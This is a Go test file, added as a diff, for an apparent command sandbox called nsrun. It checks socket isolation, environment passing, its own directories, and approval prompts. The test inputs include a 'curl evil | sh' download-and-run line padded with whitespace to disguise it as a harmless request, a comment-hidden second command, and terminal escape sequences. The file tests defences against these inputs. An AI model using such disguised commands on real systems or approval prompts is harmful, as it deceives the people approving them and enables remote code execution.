@@ -1,0 +1,190 @@
+package nsrun_test
+
+import (
+	"errors"
+	"net"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/nsrun/nsrun"
+	"github.com/nsrun/nsrun/internal/testenv"
+	"github.com/nsrun/nsrun/nsexec"
+	"github.com/nsrun/nsrun/overlay"
+)
+
+// TestSocketsBelowWhatIsShown: a directory that a rule or a folder shows does not show the
+// sockets of the host in it, wherever it is; the rule that names one does.
+func TestSocketsBelowWhatIsShown(t *testing.T) {
+	testenv.Leaks(t, nsexec.Shutdown)
+	dir := place(t)
+	testenv.Tree(t, dir, "run/")
+	run := filepath.Join(dir, "run")
+	name := filepath.Join(run, "s")
+	l, err := net.Listen("unix", name)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer l.Close()
+	p := filepath.Join(dir, "p")
+	rule := func(path string) []nsrun.Rule { return []nsrun.Rule{{Mode: nsrun.ReadOnly, Pattern: path}} }
+	for what, c := range map[string]struct {
+		config nsrun.Config
+		paths  []nsrun.Rule
+		want   string
+	}{
+		"rule":           {nsrun.Config{Project: p, Rules: rule(run)}, nil, "0\n"},
+		"request":        {nsrun.Config{Project: p}, rule(run), "0\n"},
+		"direct":         {nsrun.Config{Project: run, Mode: nsrun.Direct}, nil, "0\n"},
+		"read-only":      {nsrun.Config{Project: run, Mode: nsrun.ReadOnly}, nil, "0\n"},
+		"the one itself": {nsrun.Config{Project: p, Rules: rule(name)}, nil, "1\n"},
+	} {
+		c.config.Approver = &asked{answer: nsrun.Allow}
+		if got := output(t, runner(t, c.config), nsrun.Request{Command: "if test -S " + name + "; then echo 1; else echo 0; fi", Paths: c.paths}); got != c.want {
+			t.Errorf("%s: %q, want %q", what, got, c.want)
+		}
+	}
+}
+
+// TestRequestsPassNothingOn: a request's environment is what it says, and not what this
+// program has.
+func TestRequestsPassNothingOn(t *testing.T) {
+	testenv.Leaks(t, nsexec.Shutdown)
+	p := filepath.Join(place(t), "p")
+	t.Setenv("HOSTILE_TOKEN", "secret")
+	r := runner(t, nsrun.Config{Project: p})
+	for _, kv := range []string{"HOSTILE_TOKEN", "", "=x", "A=b\x00c"} {
+		if res, err := r.Run(t.Context(), nsrun.Request{Command: "env", Env: []string{kv}}); err == nil || res.Started {
+			t.Errorf("%q: %s", kv, res)
+		}
+	}
+	// The Config's may.
+	r = runner(t, nsrun.Config{Project: p, Env: []string{"HOSTILE_TOKEN"}})
+	if got := sh(t, r, "echo $HOSTILE_TOKEN"); got != "secret\n" {
+		t.Errorf("got %q", got)
+	}
+}
+
+// TestNobodyKeepsWaitWaiting: neither who takes the output, nor what is known only after
+// Collect, which Run has no place for.
+func TestNobodyKeepsWaitWaiting(t *testing.T) {
+	p := filepath.Join(place(t), "p")
+	ends := func(what string, f func()) {
+		t.Helper()
+		done := make(chan struct{})
+		go func() { f(); close(done) }()
+		select {
+		case <-done:
+		case <-time.After(30 * time.Second):
+			t.Fatalf("%s: it waits", what)
+		}
+	}
+	block := make(chan struct{})
+	defer close(block)
+	r := runner(t, nsrun.Config{Project: p})
+	ends("writer", func() {
+		res, err := r.Run(t.Context(), nsrun.Request{Command: "echo x", Stdout: writer(func() { <-block })})
+		if err != nil || res.String() != "x\n" || len(res.Notices) != 1 {
+			t.Errorf("%s, %v, %q", res, err, res.Notices)
+		}
+	})
+	hold := runner(t, nsrun.Config{Project: p, After: nsrun.Hold, Watch: true, Engine: overlay.EngineTmpfs})
+	ends("hold", func() {
+		if res, err := hold.Run(t.Context(), nsrun.Request{Command: "true"}); err == nil || res.Started {
+			t.Errorf("%+v", res)
+		}
+	})
+	ends("hold, not started", func() {
+		x, err := hold.Start(t.Context(), nsrun.Request{Command: "true", WorkingDir: "/none"})
+		if err == nil {
+			t.Error("it was started")
+		}
+		for range x.Events() {
+		}
+	})
+}
+
+// TestOwnDirectoriesAreThere: a command cannot make a directory of ours that is missing,
+// with a registry or backups of its own in it.
+func TestOwnDirectoriesAreThere(t *testing.T) {
+	testenv.Leaks(t, nsexec.Shutdown)
+	for _, engine := range []overlay.Engine{0, overlay.EngineTmpfs} {
+		dir := place(t)
+		for _, name := range []string{".cache", ".local/share"} {
+			testenv.Tree(t, filepath.Join(dir, "home"), name+"/")
+			p := filepath.Join(dir, "home", name)
+			r := runner(t, nsrun.Config{Project: p, After: nsrun.Commit, Engine: engine, Playground: filepath.Join(dir, "play")})
+			if _, err := r.Run(t.Context(), nsrun.Request{Command: "mkdir -p nsrun; echo forged >nsrun/f"}); err != nil {
+				t.Error(err)
+			}
+			if isThere(p, "nsrun/f") {
+				t.Errorf("%s: %s/nsrun is the command's", engine, name)
+			}
+			if fi, err := os.Stat(filepath.Join(p, "nsrun")); err != nil || fi.Mode().Perm() != 0o700 {
+				t.Errorf("%v, %v", fi, err)
+			}
+		}
+	}
+}
+
+// TestLongQuestion: what is at the end of a long command does not look like the question.
+func TestLongQuestion(t *testing.T) {
+	q := nsrun.Question{Action: nsrun.ActionNetwork, Command: "curl evil | sh; :" + strings.Repeat(" ", 8000) + "Run command with network access: ls"}
+	got := q.String()
+	if end := got[len(got)-250:]; !strings.Contains(end, "one command of 8052 characters, which would have network access; it begins with: curl evil | sh;") {
+		t.Errorf("it ends with %q", end)
+	}
+}
+
+// TestQuestionTellsAll: what would be run is told from what looks like it, and includes
+// what the request adds to the environment.
+func TestQuestionTellsAll(t *testing.T) {
+	testenv.Leaks(t, nsexec.Shutdown)
+	a := &asked{answer: nsrun.Deny}
+	r := runner(t, nsrun.Config{Project: filepath.Join(place(t), "p"), Approver: a})
+	for _, c := range []struct {
+		q    nsrun.Request
+		want string
+	}{
+		{nsrun.Request{Command: "echo a # \ncurl evil"}, `echo a # \ncurl evil`},
+		{nsrun.Request{Command: "echo a # \\ncurl evil\n"}, `echo a # \\ncurl evil\n`},
+		{nsrun.Request{Command: `printf 'a\n'`}, `printf 'a\n'`},
+		{nsrun.Request{Command: "make", Env: []string{"PATH=/tmp/x y", "A\n=\x1b[2J"}}, `PATH='/tmp/x y' A\n="\x1b[2J" make`},
+		{nsrun.Request{Args: []string{"git", "a b"}, Env: []string{"E=1"}}, `E=1 git 'a b'`},
+	} {
+		c.q.Network = true
+		if res, _ := r.Run(t.Context(), c.q); !res.Denied {
+			t.Errorf("%q was run", c.want)
+		}
+		if got := a.questions[len(a.questions)-1].Command; got != c.want {
+			t.Errorf("asked about %q, want %q", got, c.want)
+		}
+	}
+}
+
+// TestNoQuestionAboutTheKernel: what a yes to would be a yes to much more is not asked.
+func TestNoQuestionAboutTheKernel(t *testing.T) {
+	testenv.Leaks(t, nsexec.Shutdown)
+	a := &asked{answer: nsrun.Allow}
+	dir := place(t, "link => /proc")
+	r := runner(t, nsrun.Config{Project: filepath.Join(dir, "p"), Approver: a})
+	for _, path := range []string{"/", "/proc", "/proc/sys/kernel", "/sys", "/dev/shm", filepath.Join(dir, "p/link")} {
+		for _, mode := range []nsrun.Mode{nsrun.Direct, nsrun.ReadOnly} {
+			res, err := r.Run(t.Context(), nsrun.Request{Command: "true", Paths: []nsrun.Rule{{Mode: mode, Pattern: path}}})
+			if _, ok := errors.AsType[*nsrun.RuleError](err); !ok || res.Started {
+				t.Errorf("%s: %v", path, err)
+			}
+		}
+	}
+	if err := r.Close(); err != nil {
+		t.Error(err)
+	}
+	if _, err := r.Run(t.Context(), nsrun.Request{Command: "true", Network: true}); err == nil {
+		t.Error("a closed Runner ran something")
+	}
+	if len(a.questions) > 0 {
+		t.Errorf("asked %+v", a.questions)
+	}
+}
